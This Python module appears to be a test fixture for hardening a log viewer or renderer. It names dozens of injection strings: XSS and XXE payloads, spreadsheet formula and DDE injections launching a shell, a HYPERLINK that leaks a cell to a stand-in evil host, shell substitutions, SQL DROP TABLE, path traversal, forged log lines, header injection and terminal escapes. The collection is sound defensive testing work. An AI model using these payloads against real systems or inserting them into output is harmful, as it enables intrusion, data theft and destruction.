"""One list of texts that have broken what shows them, by name: pages, terminals, spreadsheets, papers, shells, logs."""

from __future__ import annotations

__all__ = ["FORMULAS", "LONG", "PAYLOADS", "as_name"]

#: GoAccess #58, #405 and #1867, AWStats CVE-2022-46391, nginx CVE-2009-4487, Django #36470, CWE-117, CWE-1236.
PAYLOADS: dict[str, str] = {
    "title": "</title></style></script><script>document.title='owned'</script>",
    "image": "<img src=x onerror=\"document.title='owned'\">",
    "vector": "<svg/onload=alert(1)><base href=//evil.example.org/>",
    "attribute": '" onmouseover="alert(1)" x=\'" autofocus onfocus=alert(1) \'',
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E",
    "double percent": "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "backslash": "\\x3cscript\\x3e \\u003cscript\\u003e",
    "references": "&#60;script&#62;&lt;b&gt;&amp;lt;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "comment": "<!-- --> --!> <![CDATA[ ]]> <?xml version='1.0'?>",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "address": "javascript:alert(1) data:text/html,<b> https://evil.example.org/x www.evil.example.org",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x><embed src=x>",
    "form": "</td></tr></table></details><form action=//evil.example.org><input name=a autofocus>",
    "style": "}</style><style>*{display:none}@import url(//evil.example.org/a.css);</style>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example.org/"><link rel=stylesheet href=//evil.example>',
    "colour": "\x1b[31;1mred\x1b[0m\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07\x1b]8;;https://evil.example.org/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07\x1bP$q\x1b\\\x9b31m\x90\x9d0;t\x9c",
    "rub out": "evil\x08\x08\x08\x08good\x7f\x0b\x0c\r overwritten",
    "lines": "first\nsecond\r\nthird\x85fourth\u2028fifth\u2029sixth",
    "order": "\u202egnp.exe\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "unseen": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\U000e0041\U000e007f",
    "fillers": "\u115f\u1160\u3164\uffa0\u2800\u034f\ufe0f\U000e0100\u17b4",
    "no characters": "\ufffe\uffff\ufdd0\U0001fffe\ue000\U000f0000",
    "controls": "".join(map(chr, range(1, 32))),
    "nothing": "a\x00b",
    "piled": "Z" + "\u0300\u0489\u0321" * 40,
    "markup": "[link=https://evil.example.org]click[/link] [red]x[/] [/] :bomb: [bold",
    "sum": '=HYPERLINK("https://evil.example.org?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": '=DDE("cmd";"/C calc";"!A0")',
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "blank": " \u00a0\u3000=1+1",
    "wide": "\uff1d1+1",
    "small": "\ufe66\ufe621",
    "quoted": '"=1+1","=2+2"',
    "separator": ";=1+1;,=2+2,\t=3",
    "percent call": "%0A=1+1",
    "cell escape": "_x003d_1+1 _x000A_ <r><t>rich</t></r>",
    "field": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" { INCLUDETEXT "/etc/passwd" }',
    "markdown": "](javascript:alert(1)) ![x](https://evil.example.org/x.png) <https://evil.example.org> [a]: https://evil.example.org",
    "fence": "```\n# head\n~~~ `code` **bold** _soft_ | cell | cell |\n- item\n> quote\n***",
    "list": "1. one",
    "setext": "===",
    "jinja": "{{ 7*7 }}{% raw %}{{ config.__class__ }}{# x #}",
    "format": "%(name)s %s %n %d {0.__class__.__mro__} {name!r:>99999999} ${x} $(x)",
    "typst": '#read("/etc/passwd") #import "x" ] ) $ $x/0$ *b* _i_ @label <label> `raw` // c /* d */ \\u{1F4A9}',
    "mathtext": "$\\frac{1}{0}$ $\\undefined{x}$ $$ \\$ $^{$ _{",
    "latex": "\\input{/etc/passwd}\\write18{calc} \\\\ & ^ ~ {",
    "sql": '\'; DROP TABLE requests; -- " OR ""="',
    "toml": '"""\n[[logs]]\npath = "/etc/passwd"\n\'\'\'',
    "json": '\\"},"status":999,"x":{"a":"',
    "shell": "$(touch owned) `touch owned` ; touch owned | touch owned & -rf --help",
    "path": "../../../../etc/passwd ..\\..\\windows\\win.ini C:\\x NUL CON",
    "second line": (
        '" 200 9 "-" "-"\n203.0.113.66 - - [09/Jun/2026:10:00:00 +0200] "GET /docs/leak.xlsx HTTP/1.1" 200 2000000 "-"'
    ),
    "header": "x\r\nBcc: evil@example.org\r\nContent-Type: text/html\r\n\r\n<b>",
    "mention": "<!channel> <@U123> @everyone @here &lt;!here&gt; *bold* ~x~",
    "regex": "(a+)+$ .*.*.*=.*[\\d]{9999}(?P<x>",
    "letters": "\u0130\u0131\u017f\ufb01\u212a\u1e9e\u0149\u03a3\u00df \uff45\uff56\uff49\uff4c \u00bd \u2460",
    "right to left": "\u05d0\u05d1 \u0627\u0644 123 (abc)",
    "face": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f3\U0001f1f1 e\u0301 é",
    "bytes": "caf\udce9 \udcff\udc80 \ud800",
}
#: What fills a field to its end.
LONG: dict[str, str] = {
    name: char * 10_000 for name, char in {"A": "A", "(": "(", "digits": "7", "blank": "x ", "<": "<"}.items()
}
#: The ways in which a spreadsheet takes a text for more than text.
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


def as_name(text: str, *, octets: int = 200) -> str:
    """The text as the name of a file on this system: no slash, no NUL, not too long."""
    kept = (
        text.replace("/", "\u2215")
        .replace("\x00", "")
        .encode("utf-8", "surrogateescape" if text.isascii() else "replace")
    )
    return kept[:octets].decode("utf-8", "ignore").strip() or "x"
